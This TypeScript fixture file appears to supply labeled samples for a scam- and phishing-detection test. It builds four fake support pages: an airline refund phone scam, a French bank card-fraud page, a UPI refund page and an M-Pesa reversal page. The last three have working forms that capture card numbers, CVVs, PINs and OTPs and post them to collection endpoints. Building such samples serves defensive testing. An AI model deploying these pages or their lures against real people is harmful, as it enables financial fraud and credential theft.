import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute, fileRoute } from '../parts/e-bin.js';
import { page, BASE_CSS, gaStub, fbqStub, ttqStub, cookieBar, chatWidget, countdown, img, qrSvg } from '../parts/n-kit.js';

// Fake customer-service pages reached from search ads: airline refunds, bank "fraud departments", tech support,
// payment-app refund desks.

export const entries: Entry[] = [
  {
    id: 'n-scam-airline-refund-helpdesk-search',
    label: 'scam',
    kind: 'fake-support',
    url: 'https://flight-refund-helpdesk.com/ryanair/customer-service?gclid=Cj0KCQiA',
    body: page({
      lang: 'en-IE',
      title: 'Ryanair Customer Service ☎ +1-888-702-4417 | 24/7 Refunds & Cancellations',
      head: gaStub('AW-11420887'),
      css: BASE_CSS + `.hero{background:#073590;color:#fff;padding:30px 24px}.hero h1{margin:0 0 8px}.call{display:inline-block;background:#f1c933;color:#073590;font-weight:bold;font-size:26px;padding:12px 22px;border-radius:8px;text-decoration:none}
.sticky{position:fixed;bottom:0;left:0;right:0;background:#f1c933;text-align:center;padding:12px;font-weight:bold}.sticky a{color:#073590;text-decoration:none;font-size:20px}`,
      body: `<header><b style="color:#073590">✈ Flight Refund Helpdesk</b><nav><a href="#">Cancellations</a><a href="#">Refunds</a><a href="#">Baggage</a><a href="#">Name change</a><a href="#">Contact</a></nav></header>
<div class="hero"><h1>Ryanair Refund & Cancellation Helpline</h1><p>Talk to a live agent now — no waiting, no chatbot. Get your refund processed in 24 hours.</p><a class="call" href="tel:+18887024417">☎ +1-888-702-4417</a><p style="font-size:12px;opacity:.8">Avg. waiting time: 1 minute · Agents available 24/7</p></div>
<main><h2>How we help</h2><ul><li>Full refund for cancelled or delayed flights</li><li>EU261 compensation up to €600</li><li>Change flight dates without penalty</li><li>Lost baggage claims</li></ul>
<h2>Why call us?</h2><p>Airline call centres have waiting times of 2 hours or more. Our certified travel agents have direct access to the airline reservation system and can process your request immediately. A service fee applies and will be explained by the agent. Have your booking reference and the card used for payment ready.</p>
<div class="card"><b>Quick refund request</b><form id="rf"><label>Booking reference</label><input placeholder="e.g. K3ZP9Q"><label>Phone</label><input placeholder="+353 ..."><button class="btn">Request call back</button></form><div id="ok"></div></div>
<p class="small">Flight Refund Helpdesk is an independent travel service provider. We may not be affiliated with the airline. All trademarks belong to their owners.</p></main>
<div class="sticky"><a href="tel:+18887024417">📞 Call Now: +1-888-702-4417</a></div>
<footer><a href="#">Privacy</a><a href="#">Terms</a><a href="#">Disclaimer</a> © 2026</footer>
<script>document.getElementById('rf').onsubmit=function(e){e.preventDefault();document.getElementById('ok').innerHTML='<p>Thank you. For immediate processing please call <b>+1-888-702-4417</b> and quote ticket #FR'+Math.floor(Math.random()*90000+10000)+'.</p>'}</script>`,
    }),
  },
  {
    id: 'n-phish-bank-fraud-service-fr',
    label: 'phishing',
    kind: 'fake-bank-fraud-dept',
    url: 'https://securite-opposition-carte.fr/service-fraude/verification',
    body: page({
      lang: 'fr',
      title: 'Service Fraude – Opposition et sécurisation de votre carte bancaire',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#f0f2f5;color:#222}.h{background:#006a4e;color:#fff;padding:14px 20px;font-weight:bold}.w{max-width:520px;margin:24px auto;background:#fff;border-radius:8px;padding:22px;box-shadow:0 2px 10px rgba(0,0,0,.1)}
.al{background:#fdecea;border-left:4px solid #d32f2f;padding:10px;font-size:14px}input{width:100%;padding:10px;margin:5px 0 12px;border:1px solid #bbb;border-radius:4px}.r{display:flex;gap:10px}.b{width:100%;padding:13px;background:#006a4e;color:#fff;border:0;border-radius:4px;font-size:16px}`,
      body: `<div class="h">🔒 Centre de Sécurité Bancaire – Service Opposition</div>
<div class="w"><div class="al"><b>Opération suspecte détectée</b><br>Un paiement de <b>1 249,00 €</b> chez <b>APPLE.COM/BILL</b> a été mis en attente sur votre carte. Si vous n'êtes pas à l'origine de cette opération, procédez à l'annulation ci-dessous. Votre conseiller du service fraude vous rappellera.</div>
<p>Dossier n° <b>OPP-2026-884173</b> — délai restant pour l'annulation : <b id="cd">09:59</b></p>
<form id="f"><label>Nom et prénom</label><input name="nom" required><label>Numéro de carte</label><input name="cc" inputmode="numeric" maxlength="19" placeholder="•••• •••• •••• ••••" required>
<div class="r"><div style="flex:1"><label>Expiration</label><input name="exp" placeholder="MM/AA" required></div><div style="flex:1"><label>Cryptogramme</label><input name="cvv" maxlength="4" required></div></div>
<label>Date de naissance</label><input name="dob" placeholder="JJ/MM/AAAA"><label>Téléphone</label><input name="tel" placeholder="06 .. .. .. .."><button class="b">Annuler l'opération</button></form>
<p style="font-size:11px;color:#777">Conformément à la DSP2, l'annulation nécessite la validation de vos données. Ne communiquez jamais ce dossier à un tiers.</p></div>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));fetch('/api/opposition',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(d)}).finally(function(){location.href='/service-fraude/sms'})}</script>${countdown('cd', 599)}`,
    }),
    routes: {
      'securite-opposition-carte.fr/api/opposition': jsonRoute({ ok: true }),
      'securite-opposition-carte.fr/service-fraude/sms': htmlRoute(page({ lang: 'fr', title: 'Validation', body: '<main><h2>Validation par code SMS</h2><p>Saisissez le code reçu par SMS pour confirmer l\'annulation.</p><form><input name="otp" maxlength="8" placeholder="Code reçu"><button class="btn">Valider</button></form></main>' })),
    },
  },
  {
    id: 'n-phish-upi-refund-customer-care',
    label: 'phishing',
    kind: 'fake-support',
    url: 'https://customercare-refund-upi.in/refund/claim?id=88123',
    body: page({
      lang: 'en-IN',
      title: 'Refund Desk – Customer Care | Claim your refund via UPI',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#eef1f7}.h{background:#5f259f;color:#fff;padding:14px 18px}.w{max-width:420px;margin:20px auto;background:#fff;border-radius:12px;padding:20px}
input{width:100%;padding:11px;margin:5px 0 12px;border:1px solid #ccc;border-radius:6px;font-size:16px}.b{width:100%;padding:13px;background:#5f259f;color:#fff;border:0;border-radius:6px;font-size:16px}.amt{font-size:30px;color:#2e7d32;font-weight:bold}`,
      body: `<div class="h"><b>Refund Desk</b> · Flipkart / Amazon / Swiggy / Electricity Board</div>
<div class="w"><p>Namaste! Your refund has been approved by our executive.</p><div class="amt">₹ 4,999.00</div><p style="font-size:13px;color:#666">Complaint ID: CC-IN-552018 · Approved by: Rahul (Customer Care)</p>
<form id="f"><label>Registered mobile number</label><input required placeholder="98XXXXXXXX"><label>UPI ID</label><input required placeholder="name@okaxis"><label>Bank name</label><input placeholder="SBI / HDFC / ICICI"><label>Enter UPI PIN to <b>receive</b> refund</label><input type="password" maxlength="6" inputmode="numeric" required placeholder="••••••"><button class="b">Receive ₹4,999</button></form>
<p style="font-size:11px;color:#888">Refund will be credited within 30 seconds after PIN verification. Do not close this page. हिंदी में सहायता के लिए 8900412276 पर कॉल करें।</p></div>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();var v=[].map.call(this.querySelectorAll('input'),function(i){return i.value});fetch('/api/collect',{method:'POST',body:JSON.stringify(v)}).finally(function(){document.querySelector('.w').innerHTML='<p>Processing… Please share the OTP received on your mobile with our executive on call.</p>'})}</script>`,
    }),
    routes: { 'customercare-refund-upi.in/api/collect': jsonRoute({ ok: 1 }) },
  },
  {
    id: 'n-phish-mpesa-reversal-portal-sw',
    label: 'phishing',
    kind: 'fake-support',
    url: 'https://mpesa-reversal-ke.com/reversal',
    body: page({
      lang: 'sw',
      title: 'M-PESA Reversal – Rudisha Pesa Uliyotuma Kimakosa',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#f4f4f4}.h{background:#4caf50;color:#fff;padding:14px;text-align:center;font-weight:bold;font-size:20px}.w{max-width:420px;margin:18px auto;background:#fff;padding:18px;border-radius:8px}
input{width:100%;padding:10px;margin:5px 0 12px;border:1px solid #ccc;border-radius:4px}.b{width:100%;padding:12px;background:#e53935;color:#fff;border:0;border-radius:4px;font-size:16px}`,
      body: `<div class="h">M-PESA · Huduma ya Kurudisha Pesa</div>
<div class="w"><p>Ulituma pesa kwa namba isiyo sahihi? Jaza fomu hii ili kurudishiwa pesa yako ndani ya dakika 5. <i>(Sent money to the wrong number? Fill this form for an instant reversal.)</i></p>
<form id="f"><label>Namba yako ya simu</label><input required placeholder="07XX XXX XXX"><label>Msimbo wa muamala (Transaction code)</label><input required placeholder="mf. TKL8H2PQ3X"><label>Kiasi (KSh)</label><input required><label>M-PESA PIN (kwa uthibitisho)</label><input type="password" maxlength="4" required><label>Namba ya kitambulisho (ID)</label><input required><button class="b">Rudisha Pesa</button></form>
<p style="font-size:11px;color:#777">Huduma hii inatolewa kwa ushirikiano na Safaricom PLC. Usishiriki PIN yako na mtu yeyote isipokuwa kupitia fomu hii rasmi.</p></div>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();var a=[].map.call(this.querySelectorAll('input'),function(i){return i.value});navigator.sendBeacon('/log',JSON.stringify(a));this.outerHTML='<p>Ombi lako linashughulikiwa. Utapokea ujumbe wa uthibitisho kutoka MPESA. Tafadhali tuma msimbo utakaopokea kwa wakala wetu 0745 118 302.</p>'}</script>`,
    }),
    routes: { 'mpesa-reversal-ke.com/log': jsonRoute({}) },
  },
];
